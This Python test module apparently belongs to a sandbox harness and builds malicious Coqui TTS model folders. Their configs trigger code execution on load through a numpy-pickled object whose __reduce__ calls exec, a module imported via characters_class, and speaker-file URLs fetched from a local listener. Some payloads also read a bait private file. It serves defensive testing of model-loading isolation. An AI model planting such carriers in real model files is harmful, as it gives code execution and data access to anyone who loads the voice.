"""Real carriers: Coqui models whose configuration makes Coqui run code, fetch and read while it only loads them.

Measured with coqui-tts 0.28 and torch 2.11: checkpoints are loaded with ``weights_only`` and carry nothing, but
configurations name files that numpy unpickles, modules that are imported and URLs that are opened.
"""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from tests.attacks import judges as see
from tests.attacks.payload import Payload
from tests.attacks.trial import INSIDE, Trial, attempt
from tests.attacks.world import World

ENGINE = "attack_coqui:BesideEngine"
SEVERAL = "attack_coqui:SeveralEngine"
PRODUCT = "harness.engines.coqui.adapter:CoquiEngine"
AUDIO = {
    "sample_rate": 22_050, "fft_size": 1024, "win_length": 1024, "hop_length": 256, "num_mels": 80,
    "signal_norm": True, "mel_fmin": 0, "mel_fmax": 8000,
}  # fmt: skip


@dataclass(frozen=True, slots=True, kw_only=True)
class Carrier:
    """A Coqui model that attacks."""

    payload: Payload
    """Name, judge and what names it; its action is not used."""
    arm: Callable[[Path, World, str], None]
    """Makes the model folder, which the worker will see under the path given last."""


class _Code:
    """Unpickling it runs source text."""

    def __init__(self, source: str) -> None:
        self._source = source

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self._source,)


def _source(world: World, seen_as: str, action: str) -> str:
    """Source text that runs an attack whose code lies in the model folder."""
    module, _, function = action.partition(":")
    told, code = json.dumps(world.told_to_payload()), f"{seen_as}/code"
    return (
        f"import sys, json; sys.dont_write_bytecode = True; sys.path.insert(0, {code!r}); import {module}; "
        f"{module}.{function}(None, json.loads({told!r}))"
    )


def _model(folder: Path, **config: Any) -> None:
    """A configuration with the code that attacks beside it, and a checkpoint that is never reached."""
    code = folder / "code"  # beside the voice a script is a leftover, which no worker may open
    code.mkdir(exist_ok=True)
    for path in INSIDE.glob("attack_*.py"):
        shutil.copyfile(path, code / path.name)
    (folder / "model.pth").write_bytes(b"never reached")
    content = {"model": "glow_tts", "use_phonemes": False, "text_cleaner": "basic_cleaners", "audio": AUDIO} | config
    (folder / "config.json").write_text(json.dumps(content), "utf-8")


def _statistics(model: str, name: str, action: str) -> Callable[[Path, World, str], None]:
    """``audio.stats_path``: a numpy file, whatever its name, whose one item is a pickle."""

    def arm(folder: Path, world: World, seen_as: str) -> None:
        _model(folder, model=model, audio=AUDIO | {"stats_path": f"{seen_as}/{name}"})
        with (folder / name).open("wb") as file:
            np.save(file, np.array(_Code(_source(world, seen_as, action)), dtype=object), allow_pickle=True)

    return arm


def _characters(action: str) -> Callable[[Path, World, str], None]:
    """``characters.characters_class``: imported before it is looked at.

    From a folder of its own: a script right beside the voice is a leftover, which lies behind the walls unseen.
    """

    def arm(folder: Path, world: World, seen_as: str) -> None:
        _model(folder, characters={"characters_class": "voice_letters.latin.Letters"})
        (folder / "voice_letters").mkdir()
        (folder / "voice_letters" / "latin.py").write_text(_source(world, seen_as, action), "utf-8")

    return arm


def _file(key: str, path: Callable[[World], str], **more: Any) -> Callable[[Path, World, str], None]:
    """A key that names a file, which fsspec opens wherever it is."""

    def arm(folder: Path, world: World, seen_as: str) -> None:
        _model(folder, **{key: path(world)}, **more)

    return arm


def _nested_encoder(folder: Path, world: World, seen_as: str) -> None:
    """A speaker encoder's own configuration, which has a ``stats_path`` too. Only a model that loads gets that far."""
    import torch
    from TTS.config import load_config
    from TTS.encoder.utils.generic_utils import setup_encoder_model

    from harness.core.paths import cache_root
    from harness.models.demo import build_demo_voice

    voice = build_demo_voice(cache_root())
    _model(folder)
    config = json.loads((voice / "config.json").read_text("utf-8"))
    config["model_args"]["speaker_encoder_config_path"] = f"{seen_as}/encoder.json"
    config["model_args"]["speaker_encoder_model_path"] = f"{seen_as}/encoder.pth"
    (folder / "config.json").write_text(json.dumps(config), "utf-8")
    shutil.copyfile(voice / "model.pth", folder / "model.pth")
    params = {
        "model_name": "lstm",
        "input_dim": 80,
        "proj_dim": 8,
        "lstm_dim": 8,
        "num_lstm_layers": 1,
        "use_lstm_with_projection": True,
    }
    encoder = {"model": "speaker_encoder", "audio": AUDIO, "model_params": params, "loss": "ge2e"}
    (folder / "encoder.json").write_text(json.dumps(encoder), "utf-8")
    network = setup_encoder_model(load_config(folder / "encoder.json"))
    torch.save({"model": network.state_dict(), "step": 0}, folder / "encoder.pth")
    encoder["audio"] = AUDIO | {"stats_path": f"{seen_as}/stats.npy"}
    (folder / "encoder.json").write_text(json.dumps(encoder), "utf-8")
    with (folder / "stats.npy").open("wb") as file:
        code = _Code(_source(world, seen_as, "attack_net:tcp"))
        np.save(file, np.array(code, dtype=object), allow_pickle=True)


def _was_read(trial: Trial) -> str:
    return "it was opened" if os.stat(trial.world.home / "speakers.json").st_atime_ns > 1 else ""  # noqa: PTH116


def _bait(world: World) -> str:
    path = world.home / "speakers.json"
    path.write_text('{"a-private-name": 0}', "utf-8")
    os.utime(path, ns=(1, 2))
    return str(path)


def _carrier(name: str, arm: Callable[[Path, World, str], None], judge: see.Judge, *named: str) -> Carrier:
    payload = Payload(name=name, family="coqui", action="attack_engine:none", harmed=judge, named=named)
    return Carrier(payload=payload, arm=arm)


_multi = {"num_speakers": 2, "use_speaker_embedding": True}
CARRIERS = (
    _carrier("stats_path: os.system", _statistics("glow_tts", "scale_stats.npy", "attack_run:os_system"), see.ran,
             "exec", "process"),
    _carrier("stats_path called .txt: TCP", _statistics("tacotron2", "licence.txt", "attack_net:tcp"),
             see.reached_listener, "network"),
    _carrier("stats_path of another architecture: daemon",
             _statistics("fast_pitch", "scale_stats.npy", "attack_process:daemon"), see.survived, "process"),
    _carrier("stats_path: a file outside", _statistics("speedy_speech", "s.npy", "attack_files:write_outside"),
             see.wrote_target, "filesystem-write"),
    _carrier("characters_class: a module within the model", _characters("attack_net:udp"), see.reached_listener,
             "network"),
    _carrier("nested speaker encoder's stats_path", _nested_encoder, see.reached_listener, "network"),
    _carrier("speakers_file by http",
             _file("speakers_file", lambda w: f"http://127.0.0.1:{w.listeners.addresses['tcp']}/a.json", **_multi),
             see.reached_listener, "network"),
    _carrier("speakers_file by ftp",
             _file("speakers_file", lambda w: f"ftp://127.0.0.1:{w.listeners.addresses['tcp']}/a.json", **_multi),
             see.reached_listener, "network"),
    _carrier("speakers_file through a cache",
             _file("speakers_file",
                   lambda w: f"simplecache::http://127.0.0.1:{w.listeners.addresses['tcp']}/a.json", **_multi),
             see.reached_listener, "network", "filesystem-write"),
    _carrier("d_vector_file by http",
             _file("d_vector_file", lambda w: f"http://127.0.0.1:{w.listeners.addresses['tcp']}/a.json",
                   use_d_vector_file=True, d_vector_dim=8),
             see.reached_listener, "network"),
    _carrier("speakers_file that is somebody's", _file("speakers_file", _bait, **_multi), _was_read,
             "filesystem-read", "secrets"),
)  # fmt: skip


def attempt_carrier(carrier: Carrier, launcher: Any, *, seen_as: str = "", engine: str = ENGINE) -> Trial:
    """Run a Coqui carrier; `seen_as` is where the worker sees the model, its own path by default."""
    world = World()
    carrier.arm(world.model, world, seen_as or str(world.model))
    return attempt(carrier.payload, launcher, engine=engine, world=world)
